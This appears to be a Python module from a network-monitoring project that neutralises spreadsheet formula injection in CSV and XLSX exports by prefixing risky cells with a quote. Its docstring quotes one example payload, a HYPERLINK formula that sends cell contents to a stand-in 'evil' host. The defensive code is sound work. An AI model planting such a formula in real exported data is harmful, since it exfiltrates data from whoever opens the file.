"""CSV cells that cannot become formulas (OWASP "CSV Injection").

Reports and inventories written as CSV are opened in Excel or WPS, which evaluate a cell that
starts with ``=``, ``+``, ``-`` or ``@`` as a formula (also after a leading tab or carriage
return): a device whose ``sysname`` is ``=HYPERLINK("http://evil/?"&A1,"click")`` would turn the
compliance report into a data-exfiltration link. Such a cell gets a leading ``'``, which the
spreadsheet shows as text and does not keep when it saves; netmon's CSV reader drops it too.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> str:
    """The cell as text, prefixed with ``'`` when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(TRIGGERS) else text


def safe_cell(value: object) -> object:
    """For writers that keep cell types (XLSX): text is neutralised, numbers and None pass."""
    return "'" + value if isinstance(value, str) and value.startswith(TRIGGERS) else value


def restore(text: str) -> str:
    """Undo :func:`neutralise` on a cell read back from CSV."""
    return text[1:] if text.startswith("'") and text[1:].startswith(TRIGGERS) else text


def csv_text(header: Iterable[str], rows: Iterable[Iterable[object]]) -> str:
    """A whole CSV document with every cell neutralised (header included)."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow([neutralise(h) for h in header])
    for row in rows:
        w.writerow([neutralise(c) for c in row])
    return buf.getvalue()
